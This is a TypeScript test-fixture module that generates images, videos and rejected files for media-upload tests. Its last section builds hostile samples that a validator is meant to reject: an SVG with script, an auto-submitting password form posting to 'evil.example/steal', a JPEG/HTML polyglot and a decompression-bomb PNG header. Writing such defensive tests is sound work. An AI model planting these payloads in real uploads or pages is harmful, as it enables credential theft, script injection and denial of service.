import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";

/**
 * Every file the media tests upload, made in code (no binary fixtures in the repository). Images
 * are small but wider than the 480 and 960 px WebP copies, so copies are made.
 */

export type Fixture = { name: string; type?: string; body: Buffer };

export const fixtureWidth = 1200;
export const fixtureHeight = 900;

/** A picture with some detail (a gradient and a block), so encoders have something to keep. */
function picture(width = fixtureWidth, height = fixtureHeight) {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
    <defs><linearGradient id="g"><stop offset="0" stop-color="#1d4ed8"/><stop offset="1" stop-color="#f59e0b"/></linearGradient></defs>
    <rect width="100%" height="100%" fill="url(#g)"/>
    <rect x="10%" y="10%" width="30%" height="40%" fill="#16a34a"/>
  </svg>`;
  return sharp(Buffer.from(svg));
}

export async function makeJpeg(width = fixtureWidth, height = fixtureHeight) {
  return picture(width, height).jpeg({ quality: 80 }).toBuffer();
}

export async function makePng(width = fixtureWidth, height = fixtureHeight) {
  return picture(width, height).png().toBuffer();
}

export async function makeWebp(width = fixtureWidth, height = fixtureHeight) {
  return picture(width, height).webp({ quality: 70 }).toBuffer();
}

export async function makeGif(width = fixtureWidth, height = fixtureHeight) {
  return picture(width, height).gif().toBuffer();
}

/** Small: AVIF is slow to encode, and the server encodes it again. */
export async function makeAvif(width = 320, height = 240) {
  return picture(width, height).avif({ quality: 50, effort: 0 }).toBuffer();
}

export const gpsCameraSerial = "SERIAL-7731-NF";
export const gpsCameraMake = "Northfold Optics";

/** A phone photo that gives away where it was taken and which camera took it. */
export async function makeJpegWithGps() {
  return picture()
    .jpeg({ quality: 80 })
    .withExif({
      IFD0: { Make: gpsCameraMake, Model: gpsCameraSerial },
      IFD3: {
        GPSLatitudeRef: "N",
        GPSLatitude: "53/1 45/1 0/1",
        GPSLongitudeRef: "W",
        GPSLongitude: "2/1 15/1 0/1",
      },
    })
    .toBuffer();
}

/** Stored landscape (600x400) with EXIF Orientation 6: shown rotated, as portrait 400x600. */
export async function makeJpegOrientation6() {
  return picture(600, 400).jpeg({ quality: 80 }).withMetadata({ orientation: 6 }).toBuffer();
}

// ISO base media (MP4/QuickTime) boxes.

function box(type: string, ...children: Buffer[]) {
  const body = Buffer.concat(children);
  const header = Buffer.alloc(8);
  header.writeUInt32BE(8 + body.length, 0);
  header.write(type, 4, "latin1");
  return Buffer.concat([header, body]);
}

function ftyp(major: string, compatible: string[]) {
  const minor = Buffer.alloc(4);
  minor.writeUInt32BE(0x200, 0);
  return box(
    "ftyp",
    Buffer.from(major, "latin1"),
    minor,
    Buffer.from(compatible.join(""), "latin1"),
  );
}

/** Where a phone recorded the video, as QuickTime's ©xyz user data item (ISO 6709). */
export const videoGpsString = "+53.7500-002.2500/";

/** A QuickTime user data text item: length, language, text. */
function userDataText(type: string, value: string) {
  const text = Buffer.from(value, "latin1");
  const header = Buffer.alloc(4);
  header.writeUInt16BE(text.length, 0);
  header.writeUInt16BE(0x15c7, 2); // language: English
  return box(type, header, text);
}

export const videoDevice = "Northfold Phone X1";

function movie(major: string, compatible: string[]) {
  const mvhd = box("mvhd", Buffer.alloc(100));
  // A track with its own user data too, and a movie-level `meta`: all of them are blanked.
  const track = box(
    "trak",
    box("tkhd", Buffer.alloc(84)),
    box("udta", box("name", Buffer.from("Hill walk, GPS above", "latin1"))),
  );
  const meta = box("meta", Buffer.alloc(4), box("hdlr", Buffer.alloc(24)));
  const userData = box(
    "udta",
    userDataText("\u00a9xyz", videoGpsString),
    userDataText("\u00a9mak", videoDevice),
  );
  const media = box("mdat", Buffer.alloc(4096, 0x5a));
  return Buffer.concat([ftyp(major, compatible), box("moov", mvhd, track, userData, meta), media]);
}

export function makeMp4() {
  return movie("isom", ["isom", "iso2", "mp41"]);
}

export function makeQuickTime() {
  return movie("qt  ", ["qt  "]);
}

// Matroska/WebM: EBML elements are an ID, a length as a variable-size integer, then the data.

function ebml(id: number[], data: Buffer) {
  if (data.length > 0x7f) throw new Error("fixture elements stay short");
  return Buffer.concat([Buffer.from(id), Buffer.from([0x80 | data.length]), data]);
}

/** An EBML header with DocType "webm" (what file-type reads to say video/webm), then a segment. */
export function makeWebm() {
  const header = ebml(
    [0x1a, 0x45, 0xdf, 0xa3],
    Buffer.concat([
      ebml([0x42, 0x86], Buffer.from([1])), // EBMLVersion
      ebml([0x42, 0xf7], Buffer.from([1])), // EBMLReadVersion
      ebml([0x42, 0xf2], Buffer.from([4])), // EBMLMaxIDLength
      ebml([0x42, 0xf3], Buffer.from([8])), // EBMLMaxSizeLength
      ebml([0x42, 0x82], Buffer.from("webm", "latin1")), // DocType
      ebml([0x42, 0x87], Buffer.from([4])), // DocTypeVersion
      ebml([0x42, 0x85], Buffer.from([2])), // DocTypeReadVersion
    ]),
  );
  const info = ebml(
    [0x15, 0x49, 0xa9, 0x66],
    ebml([0x2a, 0xd7, 0xb1], Buffer.from([0x0f, 0x42, 0x40])), // TimecodeScale 1 ms
  );
  const segment = ebml([0x18, 0x53, 0x80, 0x67], info);
  return Buffer.concat([header, segment, Buffer.alloc(1024, 0)]);
}

// Files that must never be stored.

export const scriptMarker = "<script";

export function makeSvgWithScript() {
  return Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
  <script>fetch("/admin/users").then((r) => r.text()).then(alert)</script>
  <rect width="100" height="100" fill="red"/>
</svg>
`,
  );
}

export function makeHtmlPage() {
  return Buffer.from(
    `<!doctype html>
<html><head><title>Log in</title></head>
<body><form action="https://evil.example/steal"><input name="password"></form>
<script>document.forms[0].submit()</script></body></html>
`,
  );
}

const polyglotPayload = "<html><script>alert(1)</script></html>";

/** A real JPEG that is also an HTML page: script in a comment segment and after the end marker. */
export async function makeJpegHtmlPolyglot() {
  const jpeg = await makeJpeg();
  const comment = Buffer.from(polyglotPayload, "latin1");
  const segment = Buffer.alloc(4);
  segment.writeUInt16BE(0xfffe, 0); // COM
  segment.writeUInt16BE(comment.length + 2, 2);
  return Buffer.concat([
    jpeg.subarray(0, 2), // SOI
    segment,
    comment,
    jpeg.subarray(2),
    Buffer.from(polyglotPayload, "latin1"),
  ]);
}

function pngChunk(type: string, data: Buffer) {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length, 0);
  const typeAndData = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData), 0);
  return Buffer.concat([length, typeAndData, crc]);
}

export const floodSide = 20_000;

/** A few hundred bytes that claim 20000x20000 pixels (400 MP): a decompression bomb's header. */
export function makePixelFloodPng() {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(floodSide, 0);
  header.writeUInt32BE(floodSide, 4);
  header.writeUInt8(8, 8); // bit depth
  header.writeUInt8(2, 9); // truecolour
  // compression, filter, interlace: 0
  const firstRows = deflateSync(Buffer.alloc((floodSide * 3 + 1) * 4));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk("IHDR", header),
    pngChunk("IDAT", firstRows),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

/** Whether `needle` occurs anywhere in `haystack`'s bytes. */
export function containsBytes(haystack: Uint8Array, needle: string) {
  return Buffer.from(haystack).includes(Buffer.from(needle, "latin1"));
}
